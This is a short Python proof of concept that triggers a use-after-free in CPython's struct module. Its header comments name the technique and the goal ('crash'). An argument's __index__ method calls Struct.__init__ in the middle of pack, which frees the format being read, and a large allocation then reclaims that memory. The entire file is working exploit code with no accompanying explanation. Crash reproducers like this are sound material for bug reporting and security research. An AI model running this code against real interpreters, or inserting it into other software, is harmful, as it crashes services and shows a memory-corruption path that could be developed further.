# technique: Struct.__init__ frees the format that pack is reading, when an argument's __index__ calls it
# goal: crash
# source: own analysis of _struct.c
# mended: later releases
import struct


class Evil:
    def __index__(self):
        if not kept:
            packer.__init__('b')
            kept.append(bytearray(b'x' * 7000000))
        return 1


kept = []
packer = struct.Struct('qb' * 100000)
packer.pack(*[Evil()] * 200000)
